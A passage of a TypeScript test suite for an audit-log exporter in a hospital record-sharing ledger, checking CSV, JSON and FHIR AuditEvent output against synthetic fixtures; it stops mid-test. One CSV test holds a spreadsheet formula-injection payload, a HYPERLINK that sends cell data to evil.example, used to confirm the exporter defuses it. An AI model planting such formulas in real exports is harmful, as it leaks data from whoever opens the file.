import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import type {
  AccessEvent,
  AuditQuery,
  AttestationSummary,
  BreakGlassRecord,
  HistoryEntry,
  RecordEvent,
  RefusalRecord,
  ReviewRecord,
  TransferRecord,
} from 'medshare-chaincode';
import JSONSchemaValidator from '@asymmetrik/fhir-json-schema-validator';
import { z } from 'zod';
import {
  AUDIT_ROW_FIELDS,
  AuditExportError,
  exportCsv,
  exportFhir,
  exportJson,
  toAuditRows,
  type AuditRow,
} from '.';

const id = (label: string) => createHash('sha256').update(label).digest('hex');
const tx = (label: string) => id(`tx:${label}`);

const SENDER = id('user:technologist.ana@HospitalAMSP');
const RECIPIENT = id('user:dr.bruno@HospitalBMSP');
const ER_DOCTOR = id('user:dr.chen@HospitalBMSP');
const PATIENT = id('user:patient.dana@HospitalBMSP');
const AUDITOR = id('user:auditor.eve@HospitalAMSP');
const GATEWAY_A = id('gateway@HospitalAMSP');
const GATEWAY_B = id('gateway@HospitalBMSP');
const RECORD = id('record:ct-scan-2026-0042');

function attestation(device: string, gatewayId: string): AttestationSummary {
  return {
    gatewayId,
    deviceId: id(`device:${device}`),
    postureHash: id(`posture:${device}`),
    factorHash: id(`factor:${device}`),
    nonce: 'q0Rz6oFQ3yQJ1uY8bWk2fA',
  };
}

const SENDER_DEVICE = attestation('ana-laptop', GATEWAY_A);
const RECIPIENT_DEVICE = attestation('bruno-workstation', GATEWAY_B);
const ER_DEVICE = attestation('chen-tablet', GATEWAY_B);

const transfer: TransferRecord = {
  docType: 'transfer',
  recordId: RECORD,
  senderId: SENDER,
  senderMspId: 'HospitalAMSP',
  recipientId: RECIPIENT,
  recipientMspId: 'HospitalBMSP',
  contentHash: id('ciphertext'),
  status: 'active',
  createdAt: '2026-03-02T09:00:00.000Z',
  updatedAt: '2026-03-02T09:00:00.000Z',
  txId: tx('send'),
  attestation: SENDER_DEVICE,
};

const history: HistoryEntry[] = [
  {
    txId: tx('erase'),
    at: '2026-03-04T16:00:00.000Z',
    isDelete: false,
    record: { ...transfer, status: 'erased', updatedAt: '2026-03-04T16:00:00.000Z' },
  },
  { txId: tx('send'), at: '2026-03-02T09:00:00.000Z', isDelete: false, record: transfer },
];

const recipientRead: AccessEvent = {
  docType: 'access',
  recordId: RECORD,
  txId: tx('read'),
  userId: RECIPIENT,
  mspId: 'HospitalBMSP',
  role: 'doctor',
  purpose: 'TREAT',
  outcome: 'granted',
  reason: 'recipient',
  at: '2026-03-02T10:15:00.000Z',
  attestation: RECIPIENT_DEVICE,
};

const deniedRead: AccessEvent = {
  docType: 'access',
  recordId: RECORD,
  txId: tx('denied'),
  userId: ER_DOCTOR,
  mspId: 'HospitalBMSP',
  role: 'doctor',
  purpose: 'ETREAT',
  outcome: 'denied',
  reason: 'no grant for the caller',
  at: '2026-03-02T11:00:00.000Z',
  attestation: ER_DEVICE,
};

const breakGlass: BreakGlassRecord = {
  docType: 'break-glass',
  recordId: RECORD,
  doctorId: ER_DOCTOR,
  doctorMspId: 'HospitalBMSP',
  recipientId: RECIPIENT,
  recipientMspId: 'HospitalBMSP',
  reasonCode: 'UNCONSCIOUS',
  justificationHash: id('justification'),
  openedAt: '2026-03-02T11:02:00.000Z',
  expiresAt: '2026-03-02T15:02:00.000Z',
  txId: tx('break-glass'),
  attestation: ER_DEVICE,
};

const openReview: ReviewRecord = {
  docType: 'review',
  reviewId: tx('break-glass'),
  recordId: RECORD,
  doctorId: ER_DOCTOR,
  reasonCode: 'UNCONSCIOUS',
  justificationHash: id('justification'),
  openedAt: '2026-03-02T11:02:00.000Z',
  status: 'open',
  attestation: ER_DEVICE,
};

const closedReview: ReviewRecord = {
  ...openReview,
  status: 'closed',
  finding: 'justified',
  closedBy: AUDITOR,
  closedAt: '2026-03-03T08:30:00.000Z',
  noteHash: id('note'),
};

// Purpose TREAT: the break-glass basis is read from the reason alone.
const breakGlassRead: AccessEvent = {
  docType: 'access',
  recordId: RECORD,
  txId: tx('break-glass-read'),
  userId: ER_DOCTOR,
  mspId: 'HospitalBMSP',
  role: 'doctor',
  purpose: 'TREAT',
  outcome: 'granted',
  reason: 'break-glass UNCONSCIOUS until 2026-03-02T15:02:00.000Z',
  at: '2026-03-02T11:03:00.000Z',
  attestation: ER_DEVICE,
};

const accessRefusal: RefusalRecord = {
  docType: 'refusal',
  txId: tx('refusal-access'),
  userId: PATIENT,
  mspId: 'HospitalBMSP',
  action: 'access',
  recordId: RECORD,
  code: 'DEVICE_UNHEALTHY',
  reason: 'disk encryption is off',
  evidenceHash: id('refused-report'),
  gatewayId: GATEWAY_B,
  at: '2026-03-02T12:00:00.000Z',
};

// What RecordRefusal writes to the record's access trail in the same transaction.
const accessRefusalEvent: AccessEvent = {
  docType: 'access',
  recordId: RECORD,
  txId: tx('refusal-access'),
  userId: PATIENT,
  mspId: 'HospitalBMSP',
  role: 'patient',
  outcome: 'denied',
  reason: 'refused by gateway: DEVICE_UNHEALTHY: disk encryption is off',
  at: '2026-03-02T12:00:00.000Z',
  refusedBy: GATEWAY_B,
  refusedAction: 'access',
};

const loginRefusal: RefusalRecord = {
  docType: 'refusal',
  txId: tx('refusal-login'),
  userId: SENDER,
  mspId: 'HospitalAMSP',
  action: 'login',
  code: 'TOTP_REPLAYED',
  reason: 'one-time code already used',
  gatewayId: GATEWAY_A,
  at: '2026-03-02T12:30:00.000Z',
};

const ALL: readonly unknown[] = [
  ...history,
  transfer,
  recipientRead,
  deniedRead,
  breakGlass,
  openReview,
  breakGlassRead,
  accessRefusal,
  accessRefusalEvent,
  loginRefusal,
  closedReview,
];

/** The same records in another order: reversed, then rotated by three. */
const SHUFFLED = [...ALL].reverse().map((_, i, all) => all[(i + 3) % all.length]);

function rowOf(rows: AuditRow[], kind: AuditRow['kind'], txId: string): AuditRow {
  const row = rows.find((r) => r.kind === kind && r.txId === txId);
  assert.ok(row, `no ${kind} row for ${txId}`);
  return row;
}

function catchError(fn: () => unknown): AuditExportError {
  try {
    fn();
  } catch (error) {
    assert.ok(error instanceof AuditExportError, `expected an AuditExportError, got ${String(error)}`);
    return error;
  }
  assert.fail('expected an AuditExportError');
}

/** A strict RFC 4180 reader: only CRLF ends a row, the text must end with one. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text.charAt(i);
    if (quoted) {
      if (c !== '"') field += c;
      else if (text.charAt(i + 1) === '"') {
        field += '"';
        i++;
      } else quoted = false;
    } else if (c === '"') {
      assert.equal(field, '', 'a quote may only open a field');
      quoted = true;
    } else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text.charAt(i + 1) === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else {
      assert.ok(c !== '\r' && c !== '\n', `bare line break outside quotes at ${i}`);
      field += c;
    }
  }
  assert.ok(!quoted && field === '' && row.length === 0, 'the CSV must end with CRLF');
  return rows;
}

describe('toAuditRows', () => {
  it('normalises every kind of record into rows sorted by time, one per ledger event', () => {
    const rows = toAuditRows(ALL);
    assert.deepEqual(
      rows.map((r) => [r.at, r.kind, r.txId, r.outcome]),
      [
        ['2026-03-02T09:00:00.000Z', 'transfer', tx('send'), 'recorded'],
        ['2026-03-02T10:15:00.000Z', 'access', tx('read'), 'granted'],
        ['2026-03-02T11:00:00.000Z', 'access', tx('denied'), 'denied'],
        ['2026-03-02T11:02:00.000Z', 'breakGlass', tx('break-glass'), 'recorded'],
        ['2026-03-02T11:03:00.000Z', 'access', tx('break-glass-read'), 'granted'],
        ['2026-03-02T12:00:00.000Z', 'refusal', tx('refusal-access'), 'denied'],
        ['2026-03-02T12:30:00.000Z', 'refusal', tx('refusal-login'), 'denied'],
        ['2026-03-03T08:30:00.000Z', 'review', tx('break-glass'), 'recorded'],
        ['2026-03-04T16:00:00.000Z', 'transfer', tx('erase'), 'recorded'],
      ],
    );
    for (const row of rows) {
      assert.deepEqual(Object.keys(row).sort(), [...AUDIT_ROW_FIELDS].sort());
    }
  });

  it('maps a transfer to its sender, recipient and attestation', () => {
    assert.deepEqual(rowOf(toAuditRows([transfer]), 'transfer', tx('send')), {
      at: '2026-03-02T09:00:00.000Z',
      txId: tx('send'),
      kind: 'transfer',
      recordId: RECORD,
      actorId: SENDER,
      actorMspId: 'HospitalAMSP',
      actorRole: '',
      counterpartId: RECIPIENT,
      purpose: '',
      outcome: 'recorded',
      reason: 'sent to HospitalBMSP',
      emergency: false,
      deviceId: SENDER_DEVICE.deviceId,
      postureHash: SENDER_DEVICE.postureHash,
      factorHash: SENDER_DEVICE.factorHash,
      gatewayId: GATEWAY_A,
    });
  });

  it('flattens history entries: the send version is the transfer, a later erased version its erasure', () => {
    const rows = toAuditRows(history);
    assert.deepEqual(rows[0], toAuditRows([transfer])[0]);
    assert.deepEqual(rows[1], {
      at: '2026-03-04T16:00:00.000Z',
      txId: tx('erase'),
      kind: 'transfer',
      recordId: RECORD,
      actorId: '',
      actorMspId: 'HospitalBMSP',
      actorRole: 'admin',
      counterpartId: RECIPIENT,
      purpose: '',
      outcome: 'recorded',
      reason: 'erased (storage cleared, envelopes purged)',
      emergency: false,
      deviceId: '',
      postureHash: '',
      factorHash: '',
      gatewayId: '',
    });
    assert.deepEqual(toAuditRows([{ txId: tx('purge'), at: '2026-03-05T00:00:00Z', isDelete: true }]), []);
  });

  it('maps an access to the reader, purpose, outcome, reason and attestation', () => {
    assert.deepEqual(rowOf(toAuditRows([recipientRead]), 'access', tx('read')), {
      at: '2026-03-02T10:15:00.000Z',
      txId: tx('read'),
      kind: 'access',
      recordId: RECORD,
      actorId: RECIPIENT,
      actorMspId: 'HospitalBMSP',
      actorRole: 'doctor',
      counterpartId: '',
      purpose: 'TREAT',
      outcome: 'granted',
      reason: 'recipient',
      emergency: false,
      deviceId: RECIPIENT_DEVICE.deviceId,
      postureHash: RECIPIENT_DEVICE.postureHash,
      factorHash: RECIPIENT_DEVICE.factorHash,
      gatewayId: GATEWAY_B,
    });
  });

  it('flags break-glass openings, reviews, accesses granted by break-glass and ETREAT attempts as emergencies', () => {
    const rows = toAuditRows(ALL);
    const granted = rowOf(rows, 'access', tx('break-glass-read'));
    assert.equal(granted.emergency, true);
    assert.equal(granted.purpose, 'TREAT');
    assert.equal(granted.reason, 'break-glass UNCONSCIOUS until 2026-03-02T15:02:00.000Z');
    assert.equal(rowOf(rows, 'access', tx('denied')).emergency, true);
    assert.equal(rowOf(rows, 'access', tx('read')).emergency, false);
    const opening = rowOf(rows, 'breakGlass', tx('break-glass'));
    assert.equal(opening.emergency, true);
    assert.equal(opening.purpose, 'ETREAT');
    assert.equal(opening.actorId, ER_DOCTOR);
    assert.equal(opening.actorRole, 'doctor');
    assert.equal(opening.deviceId, ER_DEVICE.deviceId);
    assert.equal(opening.reason, 'break-glass UNCONSCIOUS until 2026-03-02T15:02:00.000Z');
    assert.equal(rowOf(rows, 'review', tx('break-glass')).emergency, true);
    for (const row of rows.filter((r) => r.kind === 'transfer' || r.kind === 'refusal')) {
      assert.equal(row.emergency, false, `${row.kind} ${row.txId}`);
    }
  });

  it('keeps one row per review: the closed version supersedes the open one, whatever the order', () => {
    const expected: AuditRow = {
      at: '2026-03-03T08:30:00.000Z',
      txId: tx('break-glass'),
      kind: 'review',
      recordId: RECORD,
      actorId: AUDITOR,
      actorMspId: '',
      actorRole: 'auditor',
      counterpartId: ER_DOCTOR,
      purpose: '',
      outcome: 'recorded',
      reason: 'review closed: justified (break-glass UNCONSCIOUS)',
      emergency: true,
      deviceId: '',
      postureHash: '',
      factorHash: '',
      gatewayId: '',
    };
    assert.deepEqual(toAuditRows([openReview, closedReview]), [expected]);
    assert.deepEqual(toAuditRows([closedReview, openReview]), [expected]);
    const [open] = toAuditRows([openReview]);
    assert.equal(open?.at, '2026-03-02T11:02:00.000Z');
    assert.equal(open.actorId, ER_DOCTOR);
    assert.equal(open.counterpartId, ER_DOCTOR);
    assert.equal(open.reason, 'review open: break-glass UNCONSCIOUS');
    assert.equal(open.deviceId, ER_DEVICE.deviceId);
  });

  it('gives one refusal row for a RefusalRecord and its access-trail event, completed from both', () => {
    const expected: AuditRow = {
      at: '2026-03-02T12:00:00.000Z',
      txId: tx('refusal-access'),
      kind: 'refusal',
      recordId: RECORD,
      actorId: PATIENT,
      actorMspId: 'HospitalBMSP',
      actorRole: 'patient',
      counterpartId: '',
      purpose: '',
      outcome: 'denied',
      reason: 'access refused by gateway: DEVICE_UNHEALTHY: disk encryption is off',
      emergency: false,
      deviceId: '',
      postureHash: id('refused-report'),
      factorHash: '',
      gatewayId: GATEWAY_B,
    };
    assert.deepEqual(toAuditRows([accessRefusal, accessRefusalEvent]), [expected]);
    assert.deepEqual(toAuditRows([accessRefusalEvent, accessRefusal]), [expected]);
    assert.deepEqual(toAuditRows([accessRefusalEvent]), [{ ...expected, postureHash: '' }]);
    assert.deepEqual(toAuditRows([loginRefusal]), [
      {
        at: '2026-03-02T12:30:00.000Z',
        txId: tx('refusal-login'),
        kind: 'refusal',
        recordId: '',
        actorId: SENDER,
        actorMspId: 'HospitalAMSP',
        actorRole: '',
        counterpartId: '',
        purpose: '',
        outcome: 'denied',
        reason: 'login refused by gateway: TOTP_REPLAYED: one-time code already used',
        emergency: false,
        deviceId: '',
        postureHash: '',
        factorHash: '',
        gatewayId: GATEWAY_A,
      },
    ]);
  });

  it('de-duplicates repeated records and orders rows of the same moment by transaction id', () => {
    assert.equal(toAuditRows([transfer, transfer, ...history, transfer]).length, 2);
    const [low, high] = [tx('same-moment-1'), tx('same-moment-2')].sort();
    assert.ok(low !== undefined && high !== undefined);
    const at = '2026-03-02T13:00:00Z';
    const rows = toAuditRows([
      { ...recipientRead, txId: high, at },
      { ...recipientRead, txId: low, at },
    ]);
    assert.deepEqual(
      rows.map((r) => [r.at, r.txId]),
      [
        ['2026-03-02T13:00:00.000Z', low],
        ['2026-03-02T13:00:00.000Z', high],
      ],
    );
  });

  it('rejects anything unrecognised with an AuditExportError naming the index and the problem', () => {
    let error = catchError(() => toAuditRows([transfer, 'transfer']));
    assert.equal(error.name, 'AuditExportError');
    assert.equal(error.code, 'INVALID_AUDIT_RECORD');
    assert.equal(error.index, 1);
    assert.ok(error instanceof Error);
    assert.match(error.message, /^audit record 1: must be an object, not string$/);

    error = catchError(() => toAuditRows([transfer, recipientRead, { docType: 'grant', recordId: RECORD }]));
    assert.equal(error.index, 2);
    assert.match(error.message, /^audit record 2: docType "grant" is not an audit record/);

    error = catchError(() => toAuditRows([{ ...recipientRead, txId: 'tx-1' }]));
    assert.equal(error.index, 0);
    assert.match(error.message, /^audit record 0: txId: must be 64 lower-case hex characters$/);

    error = catchError(() =>
      toAuditRows([recipientRead, { ...deniedRead, outcome: 'maybe', at: 'yesterday' }]),
    );
    assert.equal(error.index, 1);
    assert.match(error.message, /outcome: .*; at: must be an ISO 8601 UTC time/);

    error = catchError(() => toAuditRows([{ ...transfer, senderId: undefined }]));
    assert.match(error.message, /^audit record 0: senderId: /);

    error = catchError(() => toAuditRows([{ txId: tx('x'), at: '2026-03-02T09:00:00Z', isDelete: false }]));
    assert.match(error.message, /^audit record 0: record: a history entry that is not a deletion must hold/);

    error = catchError(() =>
      toAuditRows([{ txId: tx('x'), at: '2026-03-02T09:00:00Z', isDelete: false, record: recipientRead }]),
    );
    assert.match(error.message, /^audit record 0: record\.docType: /);

    error = catchError(() => toAuditRows([{ recordId: RECORD }]));
    assert.match(error.message, /has no docType and is not a history entry/);

    error = catchError(() => toAuditRows([{ ...closedReview, closedBy: undefined }]));
    assert.match(error.message, /status: a closed review must have finding, closedBy and closedAt/);

    error = catchError(() => toAuditRows('not a list' as unknown as unknown[]));
    assert.equal(error.index, undefined);
    assert.equal(error.message, 'the audit records must be an array');
  });
});

describe('exportJson', () => {
  it('is byte-identical for the same records in another order', () => {
    const json = exportJson(ALL);
    assert.notDeepEqual(SHUFFLED, ALL);
    assert.equal(exportJson(SHUFFLED), json);
    assert.equal(exportJson([...ALL].reverse()), json);
    assert.ok(json.endsWith('}\n'));
    assert.ok(!json.endsWith('\n\n'));
  });

  it('holds the rows under sorted keys with a 2-space indent', () => {
    const json = exportJson([transfer]);
    assert.ok(
      json.startsWith('{\n  "generatedFrom": "medshare-ledger",\n  "rows": [\n    {\n      "actorId": '),
    );
    const parsed = JSON.parse(json) as { generatedFrom: string; rows: Record<string, unknown>[] };
    assert.deepEqual(parsed.rows, toAuditRows([transfer]));
    const keys = Object.keys(parsed.rows[0] ?? {});
    assert.deepEqual(keys, [...keys].sort());
    assert.equal(exportJson([]), '{\n  "generatedFrom": "medshare-ledger",\n  "rows": []\n}\n');
  });
});

describe('exportCsv', () => {
  it('writes a header of the row fields and one CRLF-terminated line per row', () => {
    const csv = exportCsv(ALL);
    assert.ok(csv.startsWith(`${AUDIT_ROW_FIELDS.join(',')}\r\n`));
    const [header, ...lines] = parseCsv(csv);
    assert.deepEqual(header, [...AUDIT_ROW_FIELDS]);
    const rows = toAuditRows(ALL);
    assert.equal(lines.length, rows.length);
    lines.forEach((line, i) => {
      assert.deepEqual(
        line,
        AUDIT_ROW_FIELDS.map((field) => String(rows[i]?.[field])),
      );
    });
    assert.equal(exportCsv([]), `${AUDIT_ROW_FIELDS.join(',')}\r\n`);
  });

  it('quotes commas, quotes and line breaks, and defuses a leading formula character', () => {
    const reason = '=HYPERLINK("https://evil.example/?"&A1,"details"), then "more"\nsecond line';
    const csv = exportCsv([{ ...deniedRead, reason, mspId: 'Hospital, "B"' }]);
    assert.ok(csv.includes(',"Hospital, ""B""",'));
    assert.ok(
      csv.includes(',"\'=HYPERLINK(""https://evil.example/?""&A1,""details""), then ""more""\nsecond line",'),
    );
    const [, line] = parseCsv(csv);
    assert.equal(line?.[AUDIT_ROW_FIELDS.indexOf('reason')], `'${reason}`);
    assert.equal(line[AUDIT_ROW_FIELDS.indexOf('actorMspId')], 'Hospital, "B"');
  });

  it('guards every formula-starting character and leaves other text alone', () => {
    const column = AUDIT_ROW_FIELDS.indexOf('reason');
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      const reason = `${start}1+2`;
      const [, line] = parseCsv(exportCsv([{ ...recipientRead, reason }]));
      assert.equal(line?.[column], `'${reason}`, JSON.stringify(start));
    }
    const [, line] = parseCsv(
      exportCsv([{ ...recipientRead, reason: "grant for TREAT, 1+1 isn't a formula" }]),
    );
    assert.equal(line?.[column], "grant for TREAT, 1+1 isn't a formula");
  });
});

// The FHIR R4 instant and id formats, from the specification's datatypes.
const FHIR_INSTANT =
  /^([0-9]([0-9]([0-9][1-9]|[1-9]0)|[1-9]00)|[1-9]000)-(0[1-9]|1[0-2])-(0[1-9]|[1-2][0-9]|3[0-1])T([01][0-9]|2[0-3]):[0-5][0-9]:([0-5][0-9]|60)(\.[0-9]+)?(Z|(\+|-)((0[0-9]|1[0-3]):[0-5][0-9]|14:00))$/;
const FHIR_ID = /^[A-Za-z0-9\-.]{1,64}$/;
const uri = z.string().regex(/^[a-z][a-z0-9+.-]*:\S+$/);
const coding = z.object({ system: uri, code: z.string().min(1), display: z.string().min(1).optional() });
const reference = z
  .object({
    identifier: z.object({ system: uri, value: z.string().min(1) }).optional(),
    display: z.string().min(1).optional(),
  })
  .refine(
    (r) => r.identifier !== undefined || r.display !== undefined,
    'a reference needs an identifier or a display',
  );

/** The elements FHIR R4 requires of an AuditEvent (type, recorded, agent.requestor, source.observer) and the shapes used. */
const auditEventSchema = z.object({
  resourceType: z.literal('AuditEvent'),
  id: z.string().regex(FHIR_ID),
  type: coding,
  action: z.enum(['C', 'R', 'U', 'D', 'E']).optional(),
  recorded: z.string().regex(FHIR_INSTANT),
  outcome: z.enum(['0', '4', '8', '12']).optional(),
  outcomeDesc: z.string().min(1).optional(),
  purposeOfEvent: z
    .array(z.object({ coding: z.array(coding).min(1) }))
    .min(1)
    .optional(),
  agent: z
    .array(
      z.object({
        type: z
          .object({ coding: z.array(coding).min(1).optional(), text: z.string().min(1).optional() })
          .optional(),
        who: reference.optional(),
        requestor: z.boolean(),
      }),
    )
    .min(1),
  source: z.object({ observer: reference, type: z.array(coding).min(1).optional() }),
  entity: z
    .array(
      z.object({
        what: reference.optional(),
        type: coding.optional(),
        role: coding.optional(),
        detail: z
          .array(z.object({ type: z.string().min(1), valueString: z.string().min(1) }))
          .min(1)
          .optional(),
      }),
    )
    .min(1)
    .optional(),
});

/** FHIR JSON has no empty strings, empty arrays or nulls. */
function assertNoEmptyValues(value: unknown, path = '$'): void {
  assert.ok(value !== '' && value !== null, `${path} is empty`);
  if (Array.isArray(value)) {
    assert.ok(value.length > 0, `${path} is an empty array`);
    value.forEach((item, i) => {
      assertNoEmptyValues(item, `${path}[${i}]`);
    });
  } else if (typeof value === 'object') {
    for (const [key, item] of Object.entries(value)) assertNoEmptyValues(item, `${path}.${key}`);
  }
}

describe('exportFhir', () => {
  const bundle = exportFhir(ALL, { generatedAt: '2026-03-05T00:00:00Z' });
  const events = (bundle.entry ?? []).map((entry) => entry.resource);
  const rows = toAuditRows(ALL);
  /** The event of a transaction by its id's tag: `ex` and `im` for a transfer's export and import. */
  const eventOf = (tag: string, txId: string) => {
    const event = events.find((e) => e.id.startsWith(`${tag}-${txId.slice(0, 40)}-`));
    assert.ok(event, `no ${tag} event for ${txId}`);
    return event;
  };

  it('is a collection Bundle of valid AuditEvents, one per row and two per transfer', () => {
    assert.equal(bundle.resourceType, 'Bundle');
    assert.equal(bundle.type, 'collection');
    assert.equal(bundle.timestamp, '2026-03-05T00:00:00.000Z');
    const created = rows.filter((r) => r.kind === 'transfer' && r.reason.startsWith('sent')).length;
    assert.equal(events.length, rows.length + created);
    events.forEach((event, i) => {
      const result = auditEventSchema.safeParse(event);
      assert.ok(result.success, `entry ${i}: ${result.error?.message ?? ''}`);
      assert.ok(rows.some((r) => r.at === event.recorded));
    });
    assertNoEmptyValues(bundle);
    assert.deepEqual(exportFhir([], { generatedAt: '2026-03-05T00:00:00Z' }), {
      resourceType: 'Bundle',
      type: 'collection',
      timestamp: '2026-03-05T00:00:00.000Z',
    });
    assert.throws(() => exportFhir(ALL, { generatedAt: 'tomorrow' }), RangeError);
  });

  it('codes each event by what happened, in the DICOM vocabulary, with its subtype and action', () => {
    const DCM = 'http://dicom.nema.org/resources/ontology/DCM';
    assert.ok(events.every((e) => e.type.system === DCM));
    assert.deepEqual(
      events.map((e) => [
        e.id.slice(0, 2),
        e.type.code,
        e.type.display,
        e.action,
        e.subtype?.map((c) => c.code),
      ]),
      [
        ['ex', '110106', 'Export', 'R', ['disclose']],
        ['im', '110107', 'Import', 'C', ['disclose']],
        ['ac', '110110', 'Patient Record', 'R', undefined],
        ['ac', '110110', 'Patient Record', 'R', undefined],
        ['bg', '110113', 'Security Alert', 'E', ['110127']],
        ['ac', '110110', 'Patient Record', 'R', undefined],
        ['rf', '110110', 'Patient Record', 'E', undefined],
        ['rf', '110114', 'User Authentication', 'E', ['110122']],
        ['rv', '110113', 'Security Alert', 'E', undefined],
        ['tr', '110105', 'DICOM Study Deleted', 'D', undefined],
      ],
    );
    assert.deepEqual(eventOf('bg', tx('break-glass')).subtype, [
      { system: DCM, code: '110127', display: 'Emergency Override Started' },
    ]);
    assert.deepEqual(eventOf('rf', tx('refusal-login')).subtype, [
      { system: DCM, code: '110122', display: 'Login' },
    ]);
  });

  it('profiles a transfer as BALP’s privacy disclosure at the source and at the recipient', () => {
    const BALP = 'https://profiles.ihe.net/ITI/BALP/StructureDefinition/IHE.BasicAudit';
    assert.deepEqual(eventOf('ex', tx('send')).meta, { profile: [`${BALP}.PrivacyDisclosure.Source`] });
    assert.deepEqual(eventOf('im', tx('send')).meta, { profile: [`${BALP}.PrivacyDisclosure.Recipient`] });
    assert.deepEqual(eventOf('im', tx('send')).subtype, [
      {
        system: 'http://terminology.hl7.org/CodeSystem/iso-21089-lifecycle',
        code: 'disclose',
        display: 'Disclose Record Lifecycle Event',
      },
    ]);
  });

  it('names the record’s patient (its recipient) as a Person entity in the role Patient', () => {
    const patient = {
      what: { identifier: { system: 'urn:medshare:user', value: RECIPIENT } },
      type: {
        system: 'http://terminology.hl7.org/CodeSystem/audit-entity-type',
        code: '1',
        display: 'Person',
      },
      role: { system: 'http://terminology.hl7.org/CodeSystem/object-role', code: '1', display: 'Patient' },
    };
    for (const event of events.filter((e) => e.entity.some((x) => x.what.identifier.value === RECORD))) {
      assert.deepEqual(event.entity[0], patient, event.id);
    }
    // Without the transfer in the export, the ledger does not say whose record it is.
    const alone = exportFhir([recipientRead]).entry?.[0]?.resource;
    assert.ok(alone && !alone.entity.some((x) => x.role?.code === '1'));
  });

  it('gives outcome 4 with the reason for denials and refusals, 0 otherwise', () => {
    assert.deepEqual(
      events.map((e) => e.outcome),
      ['0', '0', '0', '4', '0', '0', '4', '4', '0', '0'],
    );
    assert.equal(eventOf('ac', tx('denied')).outcomeDesc, 'no grant for the caller');
    assert.equal(
      eventOf('rf', tx('refusal-access')).outcomeDesc,
      'access refused by gateway: DEVICE_UNHEALTHY: disk encryption is off',
    );
  });

  it('codes the purpose of use as a v3 ActReason', () => {
    const ACT_REASON = 'http://terminology.hl7.org/CodeSystem/v3-ActReason';
    assert.deepEqual(eventOf('ac', tx('read')).purposeOfEvent, [
      { coding: [{ system: ACT_REASON, code: 'TREAT', display: 'treatment' }] },
    ]);
    assert.deepEqual(eventOf('ac', tx('denied')).purposeOfEvent, [
      { coding: [{ system: ACT_REASON, code: 'ETREAT', display: 'Emergency Treatment' }] },
    ]);
    assert.deepEqual(eventOf('bg', tx('break-glass')).purposeOfEvent?.[0]?.coding?.[0]?.code, 'ETREAT');
    assert.equal(eventOf('ex', tx('send')).purposeOfEvent, undefined);
    assert.equal(eventOf('rf', tx('refusal-login')).purposeOfEvent, undefined);
  });

  it('names the actor as requestor, a transfer recipient as a second agent, and the organisation as observer', () => {
    const send = eventOf('ex', tx('send'));
    assert.deepEqual(send.agent, [
      {
        type: {
          coding: [
            {
              system: 'http://dicom.nema.org/resources/ontology/DCM',
              code: '110153',
              display: 'Source Role ID',
            },
          ],
        },
        who: { identifier: { system: 'urn:medshare:user', value: SENDER } },
        requestor: true,
      },
      {
        type: {
          coding: [
            {
              system: 'http://dicom.nema.org/resources/ontology/DCM',
              code: '110152',
              display: 'Destination Role ID',
            },
          ],
        },
        who: { identifier: { system: 'urn:medshare:user', value: RECIPIENT } },
        requestor: false,
      },
    ]);
    assert.deepEqual(send.source, {
      observer: { display: 'HospitalAMSP' },
      type: [
        {
          system: 'http://terminology.hl7.org/CodeSystem/security-source-type',
          code: '4',
          display: 'Application Server',
        },
      ],
    });
    assert.deepEqual(eventOf('ac', tx('read')).agent, [
      {
        type: {
          coding: [
            {
              system: 'http://terminology.hl7.org/CodeSystem/practitioner-role',
              code: 'doctor',
              display: 'Doctor',
            },
          ],
          text: 'doctor',
        },
        who: { identifier: { system: 'urn:medshare:user', value: RECIPIENT } },
        requestor: true,
      },
    ]);
    const refusal = eventOf('rf', tx('refusal-access'));
    assert.deepEqual(refusal.agent[0]?.type?.coding?.[0]?.code, 'PAT');
    const review = eventOf('rv', tx('break-glass'));
    assert.deepEqual(
      review.agent.map((a) => [a.type?.text, a.who, a.requestor]),
      [
        ['auditor', { identifier: { system: 'urn:medshare:user', value: AUDITOR } }, true],
        ['doctor', { identifier: { system: 'urn:medshare:user', value: ER_DOCTOR } }, false],
      ],
    );
    assert.deepEqual(review.source.observer, { display: 'medshare-ledger' });
    const erasure = eventOf('tr', tx('erase'));
    assert.deepEqual(erasure.agent[0]?.who, { display: 'admin of HospitalBMSP, not named on the ledger' });
  });

  it('identifies the record and the ledger transaction, with the attestation as details', () => {
    assert.deepEqual(eventOf('ex', tx('send')).entity.slice(1), [
      {
        what: { identifier: { system: 'urn:medshare:record', value: RECORD } },
        type: {
          system: 'http://terminology.hl7.org/CodeSystem/audit-entity-type',
          code: '2',
          display: 'System Object',
        },
        role: {
          system: 'http://terminology.hl7.org/CodeSystem/object-role',
          code: '4',
          display: 'Domain Resource',
        },
      },
      {
        what: { identifier: { system: 'urn:medshare:fabric-tx', value: tx('send') } },
        type: {
          system: 'http://terminology.hl7.org/CodeSystem/audit-entity-type',
          code: '2',
          display: 'System Object',
        },
        detail: [
          { type: 'deviceId', valueString: SENDER_DEVICE.deviceId },
          { type: 'postureHash', valueString: SENDER_DEVICE.postureHash },
          { type: 'factorHash', valueString: SENDER_DEVICE.factorHash },
          { type: 'gatewayId', valueString: GATEWAY_A },
        ],
      },
    ]);
    const login = eventOf('rf', tx('refusal-login'));
    assert.deepEqual(
      login.entity.map((e) => [e.what.identifier.system, e.detail]),
      [['urn:medshare:fabric-tx', [{ type: 'gatewayId', valueString: GATEWAY_A }]]],
    );
  });

  it('gives each AuditEvent a unique, stable FHIR id derived from kind, transaction and record', () => {
    const ids = events.map((e) => e.id);
    assert.equal(new Set(ids).size, ids.length);
    for (const value of ids) assert.match(value, FHIR_ID);
    assert.match(eventOf('ex', tx('send')).id, new RegExp(`^ex-${tx('send').slice(0, 40)}-[0-9a-f]{16}$`));
    assert.match(eventOf('im', tx('send')).id, new RegExp(`^im-${tx('send').slice(0, 40)}-[0-9a-f]{16}$`));
    assert.match(eventOf('bg', tx('break-glass')).id, /^bg-/);
    assert.match(eventOf('rv', tx('break-glass')).id, /^rv-/);
    const again = exportFhir(SHUFFLED, { generatedAt: '2026-03-05T00:00:00Z' });
    assert.deepEqual(again, bundle);
    // Same kind and transaction, another record: still distinct.
    const other = exportFhir([recipientRead, { ...recipientRead, recordId: id('record:other') }]);
